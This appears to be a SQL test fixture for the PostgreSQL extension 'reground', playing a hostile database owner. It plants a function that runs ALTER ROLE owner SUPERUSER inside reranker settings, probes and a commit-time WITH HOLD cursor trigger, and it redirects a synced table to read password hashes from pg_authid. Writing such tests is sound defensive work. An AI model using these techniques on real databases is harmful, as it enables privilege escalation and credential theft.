-- What a hostile owner of a database writes into our tables, to run code as a superuser who calls our functions.
CREATE FUNCTION public.grab() RETURNS void LANGUAGE plpgsql AS $$BEGIN ALTER ROLE owner SUPERUSER; END$$;
CREATE FUNCTION public.scores(query text, passages text[]) RETURNS real[] LANGUAGE plpgsql AS $$BEGIN PERFORM public.grab(); RETURN NULL; END$$;
CREATE TABLE public.farm (id text PRIMARY KEY, body text NOT NULL);
INSERT INTO public.farm VALUES ('cows', 'Cows give milk.');
SELECT reground.add_corpus(name, 'public.farm', 'id', 'body') FROM unnest('{farm,nameless,named}'::text[]) AS name;
CREATE TABLE public.notes (id text PRIMARY KEY, body text NOT NULL);
SELECT reground.create_corpus('secrets');
SELECT reground.sync_table('secrets', 'public.notes', key => 'id', content => 'body');

-- Functions that run as the caller, as a superuser who has "set" them, and for a probe of a superuser.
UPDATE reground.corpora SET settings = '{"reranker": "public.scores"}' WHERE corpus IN ('nameless', 'named');
UPDATE reground.corpora SET reranker_role = 'postgres' WHERE corpus = 'named';
INSERT INTO reground.probes (tenant, probe, corpus, query, doc_id, settings, put_by) VALUES ('owner', 'p', 'farm', 'milk?', 'cows', '{"reranker": "public.scores"}', 'postgres');
INSERT INTO reground.probes SELECT 'postgres', probe, corpus, query, embedding, filter, settings, doc_id, chunk_id, put_by FROM reground.probes;
-- A table that only superusers read.
UPDATE reground.synchronised_tables
SET source = 'pg_authid', relation_id = 'pg_authid'::regclass::oid, columns = '{"key": "rolname", "content": "rolpassword"}', column_numbers = '{}';
-- A statement that runs when the transaction of the caller ends.
CREATE FUNCTION public.hold() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN EXECUTE 'DECLARE held CURSOR WITH HOLD FOR SELECT public.grab()'; RETURN NULL; END$$;
CREATE TRIGGER hold AFTER INSERT ON reground.conversations FOR EACH ROW WHEN (NEW.conversation_ref = 'held') EXECUTE FUNCTION public.hold();
